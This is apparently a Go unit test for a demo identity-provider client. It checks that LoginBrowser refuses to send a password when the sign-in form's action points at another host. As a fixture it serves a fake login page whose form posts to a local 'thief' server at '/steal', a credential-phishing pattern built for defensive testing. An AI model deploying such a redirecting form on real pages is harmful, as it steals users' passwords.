package demoidp

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// TestLoginBrowserKeepsPasswordAtTheIdP: a sign-in form whose action
// points at another host does not receive the password.
func TestLoginBrowserKeepsPasswordAtTheIdP(t *testing.T) {
	var posted atomic.Bool
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		if r.PostForm.Get("password") != "" {
			posted.Store(true)
		}
	}))
	defer thief.Close()
	idp := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte(`<form method="post" action="` + thief.URL + `/steal"><input name="username"><input type="password" name="password"></form>`))
	}))
	defer idp.Close()
	err := LoginBrowser(context.Background(), idp.URL+"/authorize", "alice", "secret")
	if posted.Load() {
		t.Fatal("the password was posted to another host")
	}
	if err == nil || !strings.Contains(err.Error(), "refusing to send the password") {
		t.Errorf("err = %v; want a refusal naming the other host", err)
	}
}
